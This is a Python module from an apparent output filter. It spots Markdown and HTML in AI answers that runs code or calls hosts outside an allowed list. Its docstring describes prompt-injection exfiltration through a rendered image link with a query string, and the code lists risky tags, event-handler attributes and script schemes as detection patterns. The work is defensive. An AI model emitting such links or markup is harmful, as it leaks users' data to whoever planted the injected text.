"""Markup that does more than show text: what runs, and what calls a host that is not allowed.

An answer that is shown as Markdown or HTML can send what it knows to whoever wrote the text that the model was given:
the picture `![](https://host/?q=...)` is fetched by the reader's browser as soon as it is shown (OWASP LLM02, LLM05).

What a text means depends on what shows it: as Markdown, where a tag that is not well-formed is text, or as HTML, where
nearly anything is one. So a text is read in every way at once, and what counts in one of them counts. Everything is
decided from left to right; held is the target of a link until it ends, at most `LONGEST` characters, or a name.
"""

from __future__ import annotations

import re
from collections.abc import Sequence
from typing import Final

from tidegate.filtering.open_tag import QUOTES, TAG, OpenTag, past_space
from tidegate.filtering.spotting import Effort, Mark
from tidegate.filtering.targets import (
    ACTIVE_CONTENT,
    ADDRESSED,
    AFTER_VALUE,
    ANGLED,
    BARE,
    EXTERNAL_IMAGE,
    EXTERNAL_LINK,
    INLINE,
    LONGEST,
    MARKUP,
    PLAIN,
    QUOTED,
    SPACED,
    Kind,
    Target,
    attribute,
    end_of,
    judged,
)
from tidegate.filtering.urls import Hosts

_FLAGS: Final = re.ASCII | re.IGNORECASE
_TAGS: Final = (
    "script|iframe|frame|frameset|object|embed|applet|style|link|meta|base|form|template|noscript|noembed|portal|xmp"
    "|plaintext"
)
_NAMES: Final = (
    "on[a-z]{3,36}|src|srcset|href|xlink:href|action|formaction|poster|background|data|cite|longdesc|ping|manifest"
    "|codebase|classid|archive|imagesrcset|lowsrc|dynsrc|profile|style|to|from|by|values|srcdoc"
    "|attributionsrc"
)
_LEADS: Final = r"A-Za-z/\\&\x00-\x20"  # what a target begins with that is not surely relative
_LED: Final = rf"[{_LEADS}<]|\Z"
_TEXT: Final = (
    r"(?:!?\[)+|\]|(?:\\[!-/:-@\[-`{-~])+|\\|(?<=\n)\r?\n|<(?=[A-Za-z/])"
    rf"|(?<=[^\s\](])\((?={_LED})|:[/\\]{{2}}|(?<=[^\s\]:]):(?={_LED})|(?<![@/.])www\.(?=[^\s.]|\Z)"
)
_OUTSIDE: Final = re.compile(_TEXT, _FLAGS)
_INSIDE: Final = re.compile(rf"{_TEXT}|(?<![^\s\"'/])(?:{_NAMES})(?![^\s=/>\"'<])", _FLAGS)
_SCHEME_BEFORE: Final = re.compile(r"(?:https?|wss?|ftps?)\Z", _FLAGS)
_AUTOLINK: Final = re.compile(r"<(?:https?|wss?|ftps?|javascript|vbscript|data|file|blob):", _FLAGS)
_RISKY: Final = re.compile(_TAGS, _FLAGS)
_UNQUOTED: Final = re.compile(r"(?:[^\"'>]++|\"[^\">]*+\"|'[^'>]*+')*+")
_ANGLE: Final = re.compile(r"[<>]")
_LEADING: Final = re.compile(f"[{_LEADS}]")
_RELATIVE: Final = re.compile(r"[A-Za-z0-9._~-]{1,64}[^:&\\A-Za-z0-9+._~-]")
"""What one begins with that is."""
_ADDRESS: Final = re.compile(r"\[[0-9A-Fa-f:.]{2,45}(?:\]|(\Z))|\[[0-9A-Fa-f:.]?(\Z)")
_STARTS: Final = (
    r"<(?:/?[A-Za-z][A-Za-z0-9:+.-]{0,31}|/)?|[\]\\]|(?:h(?:t(?:t(?:ps?)?)?)?|w(?:ss?)?|f(?:t(?:ps?)?)?)?:[/\\]?"
    r"|h(?:t(?:t(?:ps?)?)?)?|w(?:ss?)?|f(?:t(?:ps?)?)?|www?|\r"
)
_TAIL_OUTSIDE: Final = re.compile(rf"(?:{_STARTS})\Z", _FLAGS)
_TAIL_INSIDE: Final = re.compile(rf"(?:{_STARTS}|(?<![^\s\"'/])[a-z:]{{1,38}})\Z", _FLAGS)
_REACH: Final = 40  # characters of the longest of those
_AFTER: Final = ".,;:!?'*_)}~|"  # what a sentence puts behind an address
_DEEPEST: Final = 64  # brackets
_NESTED: Final = 4  # targets in targets
_TAG_LONGEST: Final = 400


class MarkupSpotter:
    """Finds markup that runs or leads to hosts other than `hosts`. Stateless, and shared between threads."""

    entities = MARKUP
    effort = Effort.QUICK
    cap = LONGEST + _REACH

    def __init__(self, hosts: Hosts) -> None:
        self.hosts = hosts

    def open(self) -> MarkupReading:
        """Begin with a text."""
        return MarkupReading(self.hosts)


class MarkupReading:
    """One text. Places are of `_text`, which begins with the character before what is not decided."""

    def __init__(self, hosts: Hosts) -> None:
        self._hosts = hosts
        self._text = ""
        self._base = 0  # where in the whole text `_text` starts
        self._at = 0  # all before it is decided
        self._marks: list[Mark] = []
        self._brackets: list[bool] = []  # those that are open in Markdown: whether of an image
        self._image = False  # whether one may have been taken for closed: that bracket was code, say
        self._tag = OpenTag()
        self._named: Target | None = None  # an attribute, until its = comes
        self._expected: Target | None = None  # a target, until it begins
        self._running: tuple[str, Target] | None = None  # one that is too long, and what it is
        self._waits: dict[bool, int] = {}  # where what may go on begins, inside of a tag and outside
        self._inside: list[int] = []  # the ends of targets that lead nowhere, and are read as text too

    @property
    def decided(self) -> int:
        """The place before which all is told."""
        return self._base + self._at

    def feed(self, text: str) -> Sequence[Mark]:
        """What is certain now."""
        return self._read(text, final=False)

    def finish(self) -> Sequence[Mark]:
        """What the end makes certain."""
        return self._read("", final=True)

    def _read(self, text: str, *, final: bool) -> list[Mark]:
        self._text += text
        self._marks = []
        self._waits = {}
        while self._step(final):
            pass
        if final:
            self._at = len(self._text)
        self._tag.walk(self._text, self._at)
        keep = max(0, self._at - 1)
        self._text = self._text[keep:]
        self._base += keep
        self._at -= keep
        self._tag.walked -= keep
        self._inside = [end - keep for end in self._inside]
        return self._marks

    def _step(self, final: bool) -> bool:
        """One thing after the other; False when the rest must wait, or there is none."""
        text, at = self._text, self._at
        if self._running is not None:
            return self._go_on(*self._running, final)
        if self._named is not None or self._expected is not None:
            self._at = at = past_space(text, at)
            if at == len(text):
                return False
            if self._expected is not None and text[at] == ">":  # a quotation goes on with it in its next line
                self._at += 1
                return True
            if self._expected is not None:
                return self._meet_target(self._expected, at, final)
            if text[at] == "=":
                self._expected = self._named
                self._at += 1
            self._named = None
            return True
        inside = bool(self._tag.open)
        found = (_INSIDE if inside else _OUTSIDE).search(text, at)
        wait = len(text) if final else self._waits.get(inside, -1)
        if wait < at:
            tail = (_TAIL_INSIDE if inside else _TAIL_OUTSIDE).search(text, max(at, len(text) - _REACH))
            wait = self._waits[inside] = len(text) if tail is None else tail.start()
        if found is None or found.start() >= wait:
            self._at = wait
            return False
        return self._meet(found, final)

    def _meet(self, found: re.Match[str], final: bool) -> bool:
        """Something that counts begins here."""
        text, at, sign, before = self._text, found.start(), found[0], self._at
        self._at = found.end()
        self._tag.walk(text, at)
        if sign[0] == "\\":
            return True
        if sign[-1] == "[":
            self._open_brackets(sign, text[at - 1 : at] == "!")
        elif sign == "]":
            self._close_bracket(text[at + 1 : at + 2])
        elif sign[-1] == "\n":
            self._brackets.clear()
            self._image = False
        elif sign == "<":
            return self._meet_tag(at, final)
        elif sign in AFTER_VALUE:
            self._expected = AFTER_VALUE[sign]
        elif sign[0] == ":":
            scheme = _SCHEME_BEFORE.search(text, max(before, at - 5), at)
            if scheme is not None:
                return self._meet_url(scheme.start(), found.end(), final)
            if at > 0 and not text[at - 1].isspace():
                self._at, self._expected = at + 1, AFTER_VALUE[":"]
        elif sign[-1] == ".":
            return self._meet_url(at, found.end(), final)
        elif "" in self._tag.open:
            at = past_space(text, self._at)
            if text[at : at + 1] in ("", "="):
                self._named = attribute(sign.lower(), links=self._tag.links)
        return True

    def _open_brackets(self, sign: str, image: bool) -> None:
        """A row of [ and ![; `image` tells whether an exclamation mark stands before it."""
        room = _DEEPEST - len(self._brackets)
        if room:
            opened = sign[: 2 * room].split("[")[:-1]
            self._brackets += [mark == "!" or (image and not at) for at, mark in enumerate(opened)][:room]

    def _close_bracket(self, then: str) -> None:
        image = any(self._brackets) or len(self._brackets) == _DEEPEST or self._image
        if self._brackets and self._brackets.pop() and then != "(":
            self._image = True
        if then == "(":
            kind = Kind.IMAGE if image else Kind.LINK
            self._expected = Target(kind, f"markdown-{kind.name.lower()}", INLINE, markdown=True)
        elif then == ":":  # a picture may refer to it
            self._expected = Target(Kind.IMAGE, "markdown-reference", SPACED, markdown=True)
        self._at += self._expected is not None

    def _meet_tag(self, at: int, final: bool) -> bool:
        text = self._text
        if text[at + 1] != "/":
            self._tag.begin(text, at)
        if _AUTOLINK.match(text, at):
            self._expected = Target(Kind.LINK, "autolink", PLAIN, markdown=True)
            return True
        tag = TAG.match(text, at)
        if tag is None:
            return True
        end = tag.end()
        if _RISKY.fullmatch(tag[1].rpartition(":")[2]):
            limit = end + _TAG_LONGEST
            angle = _ANGLE.search(text, end, limit)
            if angle is None and len(text) < limit and not final:
                self._at = at
                return False
            if angle is not None and angle[0] == ">" and _UNQUOTED.fullmatch(text, end, angle.start()):
                end = angle.end()
            self._mark(ACTIVE_CONTENT, "tag", at, end)
        self._at = end
        return True

    def _meet_target(self, target: Target, at: int, final: bool) -> bool:
        text, start = self._text, at
        if target.markdown and text[at] == "<":
            target, start = target._replace(ends=ANGLED), at + 1
        elif not target.markdown and text[at] in QUOTES:
            target, start = target._replace(ends=QUOTED[text[at]]), at + 1
        if target.kind in (Kind.IMAGE, Kind.LINK) and start < len(text):
            ends_at_space = target.ends in (INLINE, SPACED)
            if not _LEADING.match(text, start) or (ends_at_space and _RELATIVE.match(text, start)):
                self._expected = None
                return True
        end = end_of(target, text, start)
        if end is None and len(text) - start < LONGEST:
            if not final:
                return False
            end = len(text)
        self._expected = None
        entity = self._judge(target, text[start : start + LONGEST if end is None else end])
        return self._take(target, entity, start, end, otherwise=at)

    def _meet_url(self, at: int, after: int, final: bool) -> bool:
        """An address that stands in the text by itself."""
        text = self._text
        address = _ADDRESS.match(text, after)
        if address is not None and address.lastindex is not None and not final:
            self._at = at
            return False
        end = end_of(BARE, text, after if address is None else address.end())
        if end is None and len(text) - after < LONGEST:
            if not final:
                self._at = at
                return False
            end = len(text)
        if end is not None and after == end:
            return True
        if end is not None:
            end = after + len(text[after:end].rstrip(_AFTER))
        value = text[at : after + LONGEST if end is None else end]
        entity = self._judge(BARE, value if ":" in text[at:after] else f"https://{value}")
        return self._take(BARE, entity, at, end, otherwise=after)

    def _take(self, target: Target, entity: str, start: int, end: int | None, *, otherwise: int) -> bool:
        """A target is this entity, "" for none; what is none may still be text, from `otherwise` on."""
        text = self._text
        self._inside = [one for one in self._inside if one > start]
        if not entity:
            self._at = otherwise
            self._inside.append(min(len(text), start + LONGEST) if end is None else end)
            return True
        over = end is None and len(text) - start >= LONGEST
        stop = min(len(text), start + LONGEST) if end is None else end
        if stop > start:
            self._mark(entity, target.name, start, stop)
        self._at = stop
        if over:
            self._running = entity, target
            self._at -= 1  # so that the next piece overlaps with this one, and both are one value
        return True

    def _go_on(self, entity: str, target: Target, final: bool) -> bool:
        text, at = self._text, self._at
        found = target.ends.search(text, at + 1, at + 1 + LONGEST)
        if found is None and not final and len(text) - at - 1 < LONGEST:
            return False
        stop = min(len(text), at + 1 + LONGEST) if found is None else found.start()
        if stop > at + 1:
            self._mark(entity, target.name, at, stop)
        over = (found is None and stop < len(text)) or (found is None and not final)
        self._running = (entity, target) if over else None
        self._at = stop - over
        return True

    def _judge(self, target: Target, value: str) -> str:
        """What a target is, "" for nothing that counts."""
        if target is AFTER_VALUE[":"] and ADDRESSED.match(value):
            return ""  # it is found as what it is
        if len([end for end in self._inside if end > self._at]) >= _NESTED:  # nobody writes so many into each other
            return EXTERNAL_LINK if target.kind is Kind.LINK else EXTERNAL_IMAGE
        return judged(target, value, self._hosts)

    def _mark(self, entity: str, name: str, start: int, end: int) -> None:
        self._marks.append(Mark(entity, name, self._base + start, self._base + end))
